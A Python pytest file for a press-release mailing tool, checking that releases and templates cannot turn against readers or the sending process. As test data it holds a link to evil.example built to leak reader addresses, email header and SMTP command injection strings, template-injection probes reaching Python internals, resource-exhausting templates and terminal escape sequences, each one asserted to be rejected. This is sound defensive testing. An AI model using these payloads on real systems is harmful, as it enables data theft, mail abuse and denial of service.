"""A release or a template turns against the readers, or against the process that sends it."""

import json
import re
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from distro.admin.doctor import examine
from distro.admin.finding import Grade
from distro.cli.main import run
from distro.errors import TemplateError
from distro.flow.submission import Order, submit
from distro.installation.context import Installation
from distro.letter import Filler, compile_letter, headers
from distro.letter.context import LetterContext
from distro.letter.labels import clock
from distro.letter.slots import SLOTS, Slots
from distro.letter.templates import Templates
from distro.model import Edition
from distro.relay.message import Message, commands_of
from distro.relay.reply import Reply
from distro.store import Store, keys
from distro.store.embedded import Embedded
from distro.submit import read
from distro.tokens import SecretKeys
from tests.support.installation import add_readers, make_installation, write_release
from tests.support.story import Story

ENVELOPE = LetterContext(
    "17", "Office", "press@press.example", "", "", datetime(2026, 11, 25, tzinfo=UTC)
)
NOWHERE = Templates(Path("/nowhere"))


@pytest.mark.parametrize("name", SLOTS)
@pytest.mark.parametrize("secret", ["0", "00000000deadbeef", ""])
def test_a_mark_in_the_text_is_never_filled(tmp_path: Path, name: str, secret: str) -> None:
    """One in a link sent every reader's address and unsubscribe link to whoever wrote the
    release.
    """
    mark = f"x{secret}slot.{name}.{secret}x"
    text = f"See [the plan](https://evil.example/?a={mark}) {mark}."
    (tmp_path / "r.md").write_text(f"# Towns\n\n{text}\n")
    assert any("reader" in p.message and p.line == 3 for p in read(tmp_path / "r.md").errors)

    edition = Edition(
        language="en", headline=f"Towns {mark}", body=text, subhead=mark, dateline=mark
    )
    letter = compile_letter(edition, ENVELOPE, NOWHERE)
    filler = Filler(
        letter, distribution=17, site_url="https://press.example", keys=SecretKeys((b"k",), b"p")
    )
    raw = b"".join(
        filler.fill(42, 99, "ana@daily.example", "Ana", "https://press.example/c/1")
    ).replace(b"=\r\n", b"")
    for found in (
        raw.decode(),
        filler.page(42, 99, "ana@daily.example"),
        filler.plain(42, 99, "ana@daily.example"),
        filler.shared_page(),
    ):
        assert not re.search(r"evil\.example/\?a=3?D?(?:https|ana@)", found)
        assert not re.search(r"evil\.example/[^\s\"<)]*(?:/u/|daily)", found)


def test_each_letter_has_marks_of_its_own() -> None:
    edition = Edition(language="en", headline="Towns", body="Text.")
    assert len({compile_letter(edition, ENVELOPE, NOWHERE).slots for _ in range(20)}) == 20
    assert "deadbeef" not in repr(Slots("deadbeef"))


@pytest.mark.parametrize(
    "language",
    [
        '"en\\r\\nBcc: spy@evil.example"',
        '"en\\nX: y"',
        "British English",
        "french",
        "zz",
        "e",
        '"en\\0"',
        "[en]",
        "{a: b}",
        '"' + "e" * 400 + '"',
    ],
)
def test_a_language_is_a_code_and_nothing_else(tmp_path: Path, language: str) -> None:
    (tmp_path / "r.md").write_text(f"---\nheadline: Towns\nlanguage: {language}\n---\nText.\n")
    assert any(p.line == 3 for p in read(tmp_path / "r.md").errors)


@pytest.mark.parametrize(
    "field",
    [
        "headline",
        "subhead",
        "dateline",
        "date",
        "sender",
        "trusted",
        "language",
        "kind",
        "id",
        "embargo",
    ],
)
@pytest.mark.parametrize(
    "value",
    ['"a\\r\\nBcc: x@evil.example"', '"a\\u0000b"', '"a\\u001b[2Jb"', '"' + "y" * 5000 + '"'],
)
def test_no_field_of_a_release_holds_a_line_break_or_a_flood(
    tmp_path: Path, field: str, value: str
) -> None:
    (tmp_path / "r.md").write_text(
        f"---\n{'' if field == 'headline' else 'headline: Towns'}\n{field}: {value}\n---\nText.\n"
    )
    assert any(p.line in (2, 3) for p in read(tmp_path / "r.md").errors)


@pytest.mark.parametrize(
    "contact",
    [
        '{email: "a@b.example>\\r\\nBcc: c@d.example"}',
        '{name: "A\\nB", email: a@b.example}',
        "{email: not-an-address}",
    ],
)
def test_no_contact_does_either(tmp_path: Path, contact: str) -> None:
    (tmp_path / "r.md").write_text(f"---\nheadline: Towns\ncontacts: [{contact}]\n---\nText.\n")
    assert read(tmp_path / "r.md").errors


@pytest.mark.parametrize("value", ["en\r\nBcc: x@evil.example", "a\nb", "a\rb", "a\0b"])
def test_the_header_writer_refuses_breaks_whatever_comes(value: str) -> None:
    with pytest.raises(TemplateError, match="line break"):
        headers.field("Content-Language", value)
    with pytest.raises(TemplateError, match="line break"):
        headers.address_field("From", "Office", value)
    # A text has its breaks folded into spaces.
    assert headers.text_field("Subject", value).count(b"\r\n") == 1


@pytest.mark.parametrize(
    "address",
    [
        "a@b.example>\r\nRCPT TO:<spy@evil.example",
        "a@b.example\n",
        "a b@c.example",
        "<a@b.example>",
        "a@b.example\0",
    ],
)
def test_no_address_ends_a_command(address: str) -> None:
    for message in (
        Message("press@press.example", address, ()),
        Message(address, "a@b.example", ()),
    ):
        assert isinstance(commands_of(message, 10, {}), Reply)


@pytest.fixture
def installation(tmp_path: Path, server: Embedded, store: Store) -> Installation:
    installation = make_installation(tmp_path, server, store)
    add_readers(store, 5, folder=tmp_path)
    submit(installation, Order(files=[write_release(tmp_path)], to="journalists"))
    return installation


def break_letter(installation: Installation) -> None:
    installation.store.command("SET", keys.letter("1", "en"), "{}")


def break_edition(installation: Installation) -> None:
    installation.store.command("HSET", keys.distribution("1"), "versions", '{"en": "nowhere"}')


def break_expression(installation: Installation) -> None:
    installation.store.command("HSET", keys.distribution("1"), "expanded", "((")


def break_row(installation: Installation) -> None:
    installation.store.command("SET", keys.subscriber("3"), '{"email": 7}')


@pytest.mark.parametrize("harm", [break_letter, break_edition, break_expression, break_row])
def test_broken_data_halts_one_distribution_with_a_reason(
    installation: Installation, tmp_path: Path, harm: object
) -> None:
    """It stood in `sending` for ever, with a traceback every few seconds; another one goes out as
    if nothing was.
    """
    harm(installation)  # type: ignore[operator]
    story = Story(installation)
    story.run()
    row = installation.store.hash(keys.distribution("1"))
    assert (row["state"], row["guard"]) == ("halted", "fault")
    assert row["reason"]
    assert any(f.grade is Grade.ERROR and "D1" in f.text for f in examine(installation))
    before = len(story.letters)
    story.run()
    assert len(story.letters) == before
    assert (
        len(
            [
                e
                for e in installation.store.elements(keys.events("1"))
                if json.loads(e)["act"] == "halted"
            ]
        )
        == 1
    )

    if harm is not break_row:  # that row would break whoever sends to it
        submit(
            installation,
            Order(
                files=[write_release(tmp_path, headline="Another story", body="Of another day.")],
                to="journalists",
            ),
        )
        story.run()
        assert installation.store.hash(keys.distribution("2"))["state"] == "sent"
    story.stop()


@pytest.mark.parametrize(
    "source",
    [
        "{{ 1/0 }}",
        "{{ 'a' * 5e9 }}",
        "{{ 'a' * 5000000000 }}",
        "{{ 9**9**9**9 }}",
        "{{ 'a'|center(5000000000) }}",
        "{{ '%5000000000d' % 1 }}",
        "{{ '{:>5000000000}'.format(1) }}",
        (
            "{% for a in range(99999) %}{% for b in range(99999) %}{% set c = a * b %}{% endfor"
            " %}{% endfor %}"
        ),
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ self.__init__.__globals__ }}",
        (
            "{% set ns = namespace(x='aaaa') %}{% for i in range(99) %}{% set ns.x = ns.x ~ ns.x"
            " %}{% endfor %}"
        ),
    ],
)
def test_a_template_is_an_error_and_no_end_of_the_process(tmp_path: Path, source: str) -> None:
    (tmp_path / "press-release").mkdir()
    (tmp_path / "press-release" / "subject.txt").write_text(source)
    with pytest.raises(TemplateError, match=r"press-release/subject\.txt"):
        compile_letter(
            Edition(language="en", headline="Towns", body="Text."), ENVELOPE, Templates(tmp_path)
        )


@pytest.mark.parametrize(
    "template",
    [
        (
            "{{ ('ab ' * 150000)|wordwrap(1)|length }}{% for a in range(99999) %}{% for b in"
            " range(99999) %}{% endfor %}{% endfor %}"
        ),
        (
            "{% for a in range(99999) %}{% for b in range(99999) %}{% if a is sequence %}{% endif"
            " %}{% endfor %}{% endfor %}"
        ),
        "{% set y = [0] * 20000000 %}{% for a in range(99999) %}{% set z = 'a' in y %}{% endfor %}",
    ],
)
def test_no_template_swallows_its_bound(tmp_path: Path, template: str) -> None:
    """An error in a constant or in a test is swallowed by the template engine: the clock stood
    still after it.
    """
    (tmp_path / "press-release").mkdir()
    (tmp_path / "press-release" / "subject.txt").write_text(template)
    began = time.process_time()
    with pytest.raises(TemplateError, match=r"1\.5 s|memory|Memory"):
        compile_letter(
            Edition(language="en", headline="Towns", body="Text."), ENVELOPE, Templates(tmp_path)
        )
    assert time.process_time() - began < 4
    compile_letter(Edition(language="en", headline="Towns", body="Text."), ENVELOPE, NOWHERE)


def test_links_are_numbered_in_a_moment(tmp_path: Path) -> None:
    began = time.process_time()
    compile_letter(
        Edition(
            language="en",
            headline="Towns",
            body="\n\n".join(f"[a](https://d.example/{n})" for n in range(8000)),
        ),
        ENVELOPE,
        NOWHERE,
    )
    assert time.process_time() - began < 8


def test_words_of_a_file_drive_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "r.md").write_text(
        '---\nheadline: Towns\n"\\e[2J\\nFAKE: No errors\\u009b2J": 1\n---\nText.\n'
    )
    for more in ([], ["--json"]):
        run(["check", str(tmp_path / "r.md"), *more])
        printed = capsys.readouterr().out
        assert not any(line.lstrip().startswith("FAKE") for line in printed.splitlines())
        assert "\x9b" not in printed
        assert "\x1b[2J" not in printed


@pytest.mark.parametrize(
    "moment", ["0001-01-01 00:00 Asia/Tokyo", "9999-12-31 23:59 America/New_York"]
)
def test_a_year_far_away_is_a_mistake_and_no_traceback(tmp_path: Path, moment: str) -> None:
    (tmp_path / "r.md").write_text(f"---\nheadline: Towns\nembargo: {moment}\n---\nText.\n")
    assert any(p.line == 3 for p in read(tmp_path / "r.md").errors)


def test_every_language_says_an_hour() -> None:
    for language in ("gv", "en", "ar", "zh", "sw"):
        assert "04:00" in clock(datetime(2026, 11, 25, 4, tzinfo=UTC), "Europe/Zurich", language)
